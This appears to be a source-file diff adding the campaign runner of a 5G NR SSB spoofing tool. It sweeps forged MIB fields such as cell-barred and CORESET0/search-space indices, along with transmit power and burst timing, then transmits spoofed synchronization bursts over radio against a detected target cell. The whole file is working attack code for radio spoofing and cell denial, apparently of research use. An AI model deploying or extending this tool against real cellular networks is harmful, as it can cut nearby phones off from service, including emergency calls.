@@ -0,0 +1,306 @@
+/**
+ * SSB Spoofer Campaign Runner
+ */
+
+#include "campaign.h"
+#include <chrono>
+#include <cmath>
+#include <cstring>
+#include <fstream>
+#include <functional>
+#include <iomanip>
+#include <iostream>
+#include <thread>
+
+namespace ssb_spoofer {
+
+// Same nominal amplitude as the single configuration mode, before tx_power_offset_db
+static const float kTargetAmplitude = 0.7f;
+
+// Consecutive transmission errors before the campaign is aborted
+static const int kMaxConsecutiveErrors = 10;
+
+/**
+* One swept attack field: number of values and how to apply the i-th one
+*/
+struct Dimension {
+  size_t size;
+  std::function<void(AttackConfig&, size_t)> apply;
+};
+
+template<typename T, typename F>
+static void add_dimension(std::vector<Dimension>& dims, const std::vector<T>& values, F set) {
+  if (values.empty()) {
+      return;
+  }
+  dims.push_back({values.size(), [values, set](AttackConfig& attack, size_t i) { set(attack, values[i]); }});
+}
+
+CampaignRunner::CampaignRunner(RfHandler& rf, SsbProcessor& ssb_proc, const Config& config)
+    : rf_(rf), ssb_proc_(ssb_proc), config_(config) {}
+
+std::vector<AttackConfig> CampaignRunner::expand(const Config& config) {
+  const CampaignConfig& campaign = config.campaign;
+  
+  // Sweeping a MIB field implies modifying it
+  std::vector<Dimension> dims;
+  add_dimension(dims, campaign.cell_barred_values, [](AttackConfig& a, bool v) {
+      a.modify_cell_barred = true;
+      a.cell_barred_value  = v;
+  });
+  add_dimension(dims, campaign.coreset0_idx_values, [](AttackConfig& a, uint32_t v) {
+      a.modify_coreset0_idx = true;
+      a.coreset0_idx_value  = v;
+  });
+  add_dimension(dims, campaign.ss0_idx_values, [](AttackConfig& a, uint32_t v) {
+      a.modify_ss0_idx = true;
+      a.ss0_idx_value  = v;
+  });
+  add_dimension(dims, campaign.intra_freq_resel_values, [](AttackConfig& a, bool v) {
+      a.modify_intra_freq_resel = true;
+      a.intra_freq_resel_value  = v;
+  });
+  add_dimension(dims, campaign.tx_power_offset_db_values, [](AttackConfig& a, double v) {
+      a.tx_power_offset_db = v;
+  });
+  add_dimension(dims, campaign.burst_length_ms_values, [](AttackConfig& a, uint32_t v) {
+      a.burst_length_ms = v;
+  });
+  add_dimension(dims, campaign.burst_interval_us_values, [](AttackConfig& a, uint32_t v) {
+      a.burst_interval_us = v;
+  });
+  
+  std::vector<AttackConfig> points;
+  if (campaign.mode == "list") {
+      // i-th value of every list, single values apply to all points
+      size_t nof_points = 1;
+      for (const Dimension& dim : dims) {
+          nof_points = std::max(nof_points, dim.size);
+      }
+      for (size_t i = 0; i < nof_points; i++) {
+          AttackConfig attack = config.attack;
+          for (const Dimension& dim : dims) {
+              dim.apply(attack, dim.size == 1 ? 0 : i);
+          }
+          points.push_back(attack);
+      }
+      return points;
+  }
+  
+  // Grid: odometer over all dimensions, the last one changes fastest
+  std::vector<size_t> idx(dims.size(), 0);
+  while (true) {
+      AttackConfig attack = config.attack;
+      for (size_t d = 0; d < dims.size(); d++) {
+          dims[d].apply(attack, idx[d]);
+      }
+      points.push_back(attack);
+      
+      size_t d = dims.size();
+      while (d > 0) {
+          d--;
+          if (++idx[d] < dims[d].size) {
+              break;
+          }
+          idx[d] = 0;
+          if (d == 0) {
+              return points;
+          }
+      }
+      if (dims.empty()) {
+          return points;
+      }
+  }
+}
+
+bool CampaignRunner::build_burst(const SsbSearchResult& target, const AttackConfig& attack, bool& cached) {
+  srsran_mib_nr_t mib = target.mib;
+  ssb_proc_.modify_mib(mib, attack, false);
+  
+  srsran_pbch_msg_nr_t pbch_msg = {};
+  if (!ssb_proc_.encode_mib(mib, target.ssb_idx, target.mib.hrf, pbch_msg)) {
+      return false;
+  }
+  
+  // Configurations that only change timing or power reuse the same SSB
+  const SsbTemplate* tmpl = ssb_proc_.get_ssb_template(target.pci, pbch_msg, target.ssb_idx, &cached);
+  if (tmpl == nullptr) {
+      std::cerr << "  [!] Failed to generate SSB template" << std::endl;
+      return false;
+  }
+  
+  // Repeat the subframe burst_length_ms times, the buffer keeps its capacity between configurations
+  size_t sf_size = tmpl->samples.size();
+  burst_buffer_.resize(sf_size * attack.burst_length_ms);
+  for (uint32_t i = 0; i < attack.burst_length_ms; i++) {
+      std::memcpy(&burst_buffer_[i * sf_size], tmpl->samples.data(), sf_size * sizeof(std::complex<float>));
+  }
+  
+  float scale = kTargetAmplitude / (tmpl->rms + 1e-12f) * std::pow(10.0f, (float)attack.tx_power_offset_db / 20.0f);
+  cf_t* cf_burst = reinterpret_cast<cf_t*>(burst_buffer_.data());
+  srsran_vec_sc_prod_cfc(cf_burst, scale, cf_burst, (uint32_t)burst_buffer_.size());
+  
+  return true;
+}
+
+bool CampaignRunner::transmit_config(const AttackConfig& attack, CampaignStats& stats,
+                                     const std::atomic<bool>& running) {
+  const CampaignConfig& campaign = config_.campaign;
+  uint32_t nsamples = (uint32_t)burst_buffer_.size();
+  int consecutive_errors = 0;
+  
+  auto start_time = std::chrono::steady_clock::now();
+  while (running) {
+      if (campaign.bursts_per_config > 0 && stats.bursts >= campaign.bursts_per_config) {
+          break;
+      }
+      stats.duration_sec = std::chrono::duration<double>(std::chrono::steady_clock::now() - start_time).count();
+      if (campaign.dwell_sec > 0 && stats.duration_sec >= campaign.dwell_sec) {
+          break;
+      }
+      
+      bool is_start = (stats.bursts == 0);
+      bool is_end   = (attack.burst_interval_us > 0);
+      
+      int nsent = rf_.transmit(burst_buffer_.data(), nsamples, is_start, is_end);
+      if (nsent < 0) {
+          stats.tx_errors++;
+          if (++consecutive_errors >= kMaxConsecutiveErrors) {
+              std::cerr << "\n  [!!!] FATAL: Too many transmission errors!" << std::endl;
+              return false;
+          }
+          std::this_thread::sleep_for(std::chrono::milliseconds(10));
+          continue;
+      }
+      
+      consecutive_errors = 0;
+      stats.bursts++;
+      stats.samples += nsamples;
+      
+      if (attack.burst_interval_us > 0) {
+          std::this_thread::sleep_for(std::chrono::microseconds(attack.burst_interval_us));
+      }
+  }
+  
+  stats.duration_sec = std::chrono::duration<double>(std::chrono::steady_clock::now() - start_time).count();
+  return true;
+}
+
+bool CampaignRunner::run(const SsbSearchResult& target, const std::atomic<bool>& running) {
+  std::vector<AttackConfig> points = expand(config_);
+  stats_.clear();
+  stats_.reserve(points.size());
+  
+  std::cout << "\n  ======================================================================" << std::endl;
+  std::cout <<   "   CAMPAIGN | PCI: " << target.pci << " | Mode: " << config_.campaign.mode
+            << " | Configurations: " << points.size() << std::endl;
+  std::cout <<   "  ======================================================================" << std::endl;
+  
+  // RF stays configured for the whole campaign
+  if (!rf_.start_tx()) {
+      std::cerr << "ERROR: Failed to start TX stream" << std::endl;
+      return false;
+  }
+  
+  bool ok = true;
+  for (size_t i = 0; i < points.size() && running; i++) {
+      const AttackConfig& attack = points[i];
+      
+      CampaignStats stats = {};
+      stats.index  = (uint32_t)i;
+      stats.attack = attack;
+      
+      if (!build_burst(target, attack, stats.template_cached)) {
+          ok = false;
+          break;
+      }
+      
+      std::cout << "  [" << std::setw(4) << i + 1 << "/" << points.size() << "]"
+                << " barred=" << (attack.modify_cell_barred ? (attack.cell_barred_value ? "1" : "0") : "-")
+                << " coreset0=" << (attack.modify_coreset0_idx ? std::to_string(attack.coreset0_idx_value) : "-")
+                << " ss0=" << (attack.modify_ss0_idx ? std::to_string(attack.ss0_idx_value) : "-")
+                << " resel=" << (attack.modify_intra_freq_resel ? (attack.intra_freq_resel_value ? "1" : "0") : "-")
+                << " pwr=" << std::fixed << std::setprecision(1) << attack.tx_power_offset_db << "dB"
+                << " len=" << attack.burst_length_ms << "ms"
+                << " gap=" << attack.burst_interval_us << "us"
+                << (stats.template_cached ? " (cached)" : "") << std::flush;
+      
+      if (!transmit_config(attack, stats, running)) {
+          stats_.push_back(stats);
+          ok = false;
+          break;
+      }
+      stats_.push_back(stats);
+      
+      double rate = stats.duration_sec > 0 ? stats.bursts / stats.duration_sec : 0;
+      std::cout << " -> " << stats.bursts << " bursts, " << std::setprecision(1) << rate << " b/s" << std::endl;
+  }
+  
+  std::cout << "\n  >> Stopping TX stream..." << std::endl;
+  rf_.stop_tx();
+  
+  print_summary();
+  if (!config_.campaign.stats_file.empty() && !write_stats(config_.campaign.stats_file)) {
+      std::cerr << "  WARNING: Could not write campaign statistics to " << config_.campaign.stats_file << std::endl;
+  }
+  
+  return ok && running;
+}
+
+void CampaignRunner::print_summary() const {
+  uint64_t total_bursts = 0;
+  uint64_t total_errors = 0;
+  double   total_time   = 0;
+  uint32_t cached       = 0;
+  for (const CampaignStats& stats : stats_) {
+      total_bursts += stats.bursts;
+      total_errors += stats.tx_errors;
+      total_time   += stats.duration_sec;
+      cached       += stats.template_cached ? 1 : 0;
+  }
+  
+  std::cout << "\n  ======================================================================" << std::endl;
+  std::cout <<   "                         CAMPAIGN STATISTICS                           " << std::endl;
+  std::cout <<   "  ======================================================================" << std::endl;
+  std::cout << "  Configurations:  " << std::setw(9) << stats_.size()
+            << "  |  Templates reused: " << std::setw(6) << cached
+            << "  |  Cache size: " << ssb_proc_.get_template_cache_size() << std::endl;
+  std::cout << "  Bursts Sent:     " << std::setw(9) << total_bursts
+            << "  |  TX errors:        " << std::setw(6) << total_errors
+            << "  |  Duration: " << std::fixed << std::setprecision(2) << total_time << "s" << std::endl;
+  std::cout <<   "  ======================================================================" << std::endl;
+}
+
+bool CampaignRunner::write_stats(const std::string& filename) const {
+  std::ofstream file(filename);
+  if (!file.is_open()) {
+      return false;
+  }
+  
+  file << "index,cell_barred,coreset0_idx,ss0_idx,intra_freq_resel,tx_power_offset_db,"
+          "burst_length_ms,burst_interval_us,bursts,tx_errors,samples,duration_s,burst_rate,template_cached\n";
+  for (const CampaignStats& stats : stats_) {
+      const AttackConfig& a = stats.attack;
+      double rate = stats.duration_sec > 0 ? stats.bursts / stats.duration_sec : 0;
+      // -1 marks fields left unmodified
+      file << stats.index << ","
+           << (a.modify_cell_barred ? (int)a.cell_barred_value : -1) << ","
+           << (a.modify_coreset0_idx ? (int)a.coreset0_idx_value : -1) << ","
+           << (a.modify_ss0_idx ? (int)a.ss0_idx_value : -1) << ","
+           << (a.modify_intra_freq_resel ? (int)a.intra_freq_resel_value : -1) << ","
+           << a.tx_power_offset_db << ","
+           << a.burst_length_ms << ","
+           << a.burst_interval_us << ","
+           << stats.bursts << ","
+           << stats.tx_errors << ","
+           << stats.samples << ","
+           << stats.duration_sec << ","
+           << rate << ","
+           << (stats.template_cached ? 1 : 0) << "\n";
+  }
+  
+  std::cout << "  >> Campaign statistics written to " << filename << std::endl;
+  return file.good();
+}
+
+} // namespace ssb_spoofer